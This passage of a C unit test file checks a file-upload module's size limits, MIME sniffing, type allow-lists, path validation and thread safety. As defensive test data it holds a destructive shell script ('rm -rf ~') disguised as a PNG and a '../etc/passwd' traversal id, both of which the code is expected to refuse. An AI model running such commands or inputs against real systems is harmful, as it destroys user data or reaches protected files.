    zip_add(&zip, "[Content_Types].xml", content_types);
    zip_add(&zip, "word/document.xml", document);
    zip_close(&zip, "");
    check_roundtrip(zip.buf, zip.len, DOCX_MIME); /* the OOXML check through pread */
}

static void test_upload_limits(void)
{
    char id[ID_SIZE] = "", sha[65], mime[FILES_MIME_SIZE];
    uint64_t size = 0;
    size_t n = sizeof(png_1x1);
    int before = count_entries(root);
    /* exactly at the limit, in one write and in pieces */
    CHECK_EQ_INT(upload(png_1x1, n, n, n, id, sha, &size, mime), 0);
    CHECK_EQ_INT(size, n);
    CHECK_EQ_INT(upload(png_1x1, n, 1, n, id, sha, &size, mime), 0);
    /* one byte over: refused at the write that passes it, nothing kept */
    for (size_t step = 1; step <= n; step += 11) {
        CHECK_EQ_INT(upload(png_1x1, n, step, n - 1, id, sha, &size, mime), FILES_ERR_TOO_LARGE);
        CHECK_EQ_INT(tmp_count(), 0);
    }
    CHECK_EQ_INT(upload(png_1x1, n, n, n - 1, id, sha, &size, mime), FILES_ERR_TOO_LARGE);
    /* the refused write is all or nothing, and later writes stay refused */
    char err[128];
    files_upload_t *u = files_upload_begin(root, 10, err, sizeof(err));
    CHECK_EQ_INT(files_upload_write(u, "0123456789", 10), 0);
    CHECK_EQ_INT(files_upload_size(u), 10);
    CHECK_EQ_INT(files_upload_write(u, "", 0), 0);
    CHECK_EQ_INT(files_upload_write(u, "x", 1), FILES_ERR_TOO_LARGE);
    CHECK_EQ_INT(files_upload_size(u), 10);
    CHECK_EQ_INT(files_upload_write(u, "", 0), FILES_ERR_TOO_LARGE);
    CHECK_EQ_INT(tmp_count(), 0);
    files_upload_abort(u);
    /* an empty upload is not an allowed type */
    CHECK_EQ_INT(upload("", 0, 1, 0, id, sha, &size, mime), FILES_ERR_TYPE);
    /* only the two accepted uploads were kept (at most two new directories) */
    int after = count_entries(root);
    CHECK(after >= before && after <= before + 2);
    CHECK_EQ_INT(tmp_count(), 0);
}

static void test_upload_refused_type(void)
{
    static const char sh[] = "#!/bin/sh\nrm -rf ~\n"; /* "photo.png" to the client */
    char id[ID_SIZE] = "", sha[65], mime[FILES_MIME_SIZE];
    uint64_t size = 0;
    int before = count_entries(root);
    CHECK_EQ_INT(upload(sh, sizeof(sh) - 1, 5, 1 << 20, id, sha, &size, mime), FILES_ERR_TYPE);
    CHECK_MEM(mime, strlen(mime), "text/x-shellscript");
    CHECK_EQ_INT(id[0], '\0');
    CHECK_EQ_INT(count_entries(root), before);
    CHECK_EQ_INT(tmp_count(), 0);
    /* a custom allow-list */
    char err[64];
    files_upload_t *u = files_upload_begin(root, 1 << 20, err, sizeof(err));
    CHECK_EQ_INT(files_upload_write(u, png_1x1, sizeof(png_1x1)), 0);
    CHECK_EQ_INT(files_upload_finish(u, "application/pdf", id, NULL, NULL, mime, sizeof(mime)),
                 FILES_ERR_TYPE);
    CHECK_MEM(mime, strlen(mime), "image/png");
    u = files_upload_begin(root, 1 << 20, err, sizeof(err));
    CHECK_EQ_INT(files_upload_write(u, png_1x1, sizeof(png_1x1)), 0);
    CHECK_EQ_INT(files_upload_finish(u, "image/*", id, NULL, NULL, NULL, 0), 0);
    CHECK_EQ_INT(files_remove(root, id), 0);
    CHECK_EQ_INT(files_remove(root, id), 0); /* already gone */
    char path[256];
    files_path(root, id, path, sizeof(path));
    CHECK(access(path, F_OK) != 0);
}

static void test_upload_abort_and_init(void)
{
    char err[256] = "";
    files_upload_t *u = files_upload_begin(root, 100, err, sizeof(err));
    CHECK_EQ_INT(files_upload_write(u, "abc", 3), 0);
    CHECK_EQ_INT(tmp_count(), 1);
    files_upload_abort(u);
    CHECK_EQ_INT(tmp_count(), 0);
    files_upload_abort(NULL);

    /* files_init removes what a crash left in tmp (ours only) and keeps stored files */
    u = files_upload_begin(root, 100, err, sizeof(err));
    CHECK_EQ_INT(files_upload_write(u, "abc", 3), 0);
    char other[128];
    snprintf(other, sizeof(other), "%s/tmp/not-ours", root);
    close(open(other, O_CREAT | O_WRONLY, 0600));
    CHECK_EQ_INT(tmp_count(), 2);
    int stored = count_entries(root);
    CHECK_EQ_INT(files_init(root, err, sizeof(err)), 0);
    CHECK_EQ_INT(tmp_count(), 1);
    CHECK_EQ_INT(count_entries(root), stored);
    unlink(other);
    files_upload_abort(u); /* its file is already gone: fine */

    /* begin creates a missing directory; init makes nested ones */
    char nested[128];
    snprintf(nested, sizeof(nested), "%s/new/deeper", root);
    CHECK_EQ_INT(files_init(nested, err, sizeof(err)), 0);
    snprintf(nested, sizeof(nested), "%s/fresh", root);
    u = files_upload_begin(nested, 100, err, sizeof(err));
    CHECK(u != NULL);
    files_upload_abort(u);
    /* failures come with a message */
    err[0] = '\0';
    CHECK(files_upload_begin("/proc/parlor-no-such-dir/x", 100, err, sizeof(err)) == NULL);
    CHECK(err[0] != '\0');
    CHECK(files_upload_begin("", 100, err, sizeof(err)) == NULL);
    CHECK(files_upload_begin(NULL, 100, NULL, 0) == NULL);
    CHECK_EQ_INT(files_init("/proc/parlor-no-such-dir", err, sizeof(err)), FILES_ERR_IO);
    CHECK_EQ_INT(files_init("", NULL, 0), FILES_ERR_INVALID);
}

static void test_paths(void)
{
    char out[64];
    CHECK_EQ_INT(files_path("/data", "65f0a1b2c3d4e5f60718293a", out, sizeof(out)), 33);
    CHECK_MEM(out, strlen(out), "/data/3a/65f0a1b2c3d4e5f60718293a");
    CHECK_EQ_INT(files_path("/data", "65f0a1b2c3d4e5f60718293a", out, 33), FILES_ERR_INVALID);
    CHECK_EQ_INT(files_path("/data", "../../../../etc/passwd00", out, sizeof(out)),
                 FILES_ERR_INVALID);
    CHECK_EQ_INT(files_path("/data", "65F0A1B2C3D4E5F60718293A", out, sizeof(out)),
                 FILES_ERR_INVALID);
    CHECK_EQ_INT(files_path("/data", "65f0a1b2c3d4e5f60718293", out, sizeof(out)),
                 FILES_ERR_INVALID);
    CHECK_EQ_INT(files_path("/data", NULL, out, sizeof(out)), FILES_ERR_INVALID);
    CHECK_EQ_INT(files_remove("/data", "x"), FILES_ERR_INVALID);
}

static int list_collect(const char *id, void *arg)
{
    char(*seen)[ID_SIZE] = arg;
    for (int i = 0; i < 4; i++)
        if (!seen[i][0]) {
            memcpy(seen[i], id, ID_SIZE);
            return 0;
        }
    return 1;
}

/* files_list names every stored file and nothing else (the start-up sweep of orphans). */
static void test_list(void)
{
    char dir[160], p[256], err[256];
    snprintf(dir, sizeof dir, "%s/listed", root);
    CHECK_EQ_INT(files_init(dir, err, sizeof err), 0);
    char seen[4][ID_SIZE];
    memset(seen, 0, sizeof seen);
    CHECK_EQ_INT(files_list(dir, list_collect, seen), 0);
    files_upload_t *u = files_upload_begin(dir, 100, err, sizeof err);
    char id[ID_SIZE];
    CHECK_EQ_INT(files_upload_write(u, "hello\n", 6), 0);
    CHECK_EQ_INT(files_upload_finish(u, NULL, id, NULL, NULL, NULL, 0), 0);
    /* not ours: a bad name in a hex directory, an id in the wrong directory, tmp files */
    snprintf(p, sizeof p, "%s/%.2s/notanid", dir, id + ID_LEN - 2);
    close(open(p, O_CREAT | O_WRONLY, 0600));
    snprintf(p, sizeof p, "%s/zz", dir);
    mkdir(p, 0700);
    snprintf(p, sizeof p, "%s/zz/%s", dir, id);
    close(open(p, O_CREAT | O_WRONLY, 0600));
    snprintf(p, sizeof p, "%s/tmp/%s", dir, id);
    close(open(p, O_CREAT | O_WRONLY, 0600));
    CHECK_EQ_INT(files_list(dir, list_collect, seen), 1);
    CHECK(strcmp(seen[0], id) == 0);
    CHECK(seen[1][0] == '\0');
    snprintf(p, sizeof p, "%s/nowhere", root);
    CHECK_EQ_INT(files_list(p, list_collect, seen), 0);
}

/* Sniffing and uploading from several threads at once: one magic_t per thread. */
static void *worker(void *arg)
{
    int *bad = arg;
    for (int i = 0; i < 30; i++) {
        char mime[FILES_MIME_SIZE], id[ID_SIZE];
        if (files_sniff_buffer(jpeg_1x1, sizeof(jpeg_1x1), mime, sizeof(mime)) != 0 ||
            strcmp(mime, "image/jpeg") != 0) {
            (*bad)++;
        }
        files_upload_t *u = files_upload_begin(root, 1 << 20, NULL, 0);
        if (!u || files_upload_write(u, png_1x1, sizeof(png_1x1)) != 0 ||
            files_upload_finish(u, NULL, id, NULL, NULL, mime, sizeof(mime)) != 0 ||
            strcmp(mime, "image/png") != 0 || files_remove(root, id) != 0) {
            (*bad)++;
        }
    }
    return NULL;
}

static void test_threads(void)
{
    pthread_t t[4];
    int bad[4] = {0};
    for (int i = 0; i < 4; i++) pthread_create(&t[i], NULL, worker, &bad[i]);
    for (int i = 0; i < 4; i++) pthread_join(t[i], NULL);
    for (int i = 0; i < 4; i++) CHECK_EQ_INT(bad[i], 0);
    CHECK_EQ_INT(tmp_count(), 0);
}

static void rm_rf(const char *path)
{
    DIR *d = opendir(path);
    if (d) {
        struct dirent *de;
        while ((de = readdir(d)) != NULL) {
            if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, "..")) continue;
            char p[512];
            snprintf(p, sizeof(p), "%s/%s", path, de->d_name);
            rm_rf(p);
        }
        closedir(d);
        rmdir(path);
    } else {
        unlink(path);
    }
}

int main(void)
{
    snprintf(root, sizeof(root), "/tmp/parlor-test-files-XXXXXX");
    if (!mkdtemp(root)) return 1;
    char err[256];
    if (files_init(root, err, sizeof(err)) != 0) {
        fprintf(stderr, "files_init: %s\n", err);
        return 1;
    }
    RUN(test_list);
    RUN(test_name_paths);
    RUN(test_name_controls);
    RUN(test_name_unicode);
    RUN(test_name_length);
    RUN(test_name_invariants);
    RUN(test_sniff_media);
    RUN(test_sniff_refused);
    RUN(test_sniff_office);
    RUN(test_zip_parser);
    RUN(test_mime_allowed);
    RUN(test_upload_roundtrip);
    RUN(test_upload_limits);
    RUN(test_upload_refused_type);
    RUN(test_upload_abort_and_init);
    RUN(test_paths);
    RUN(test_threads);
    rm_rf(root);
    return UNIT_DONE();
}
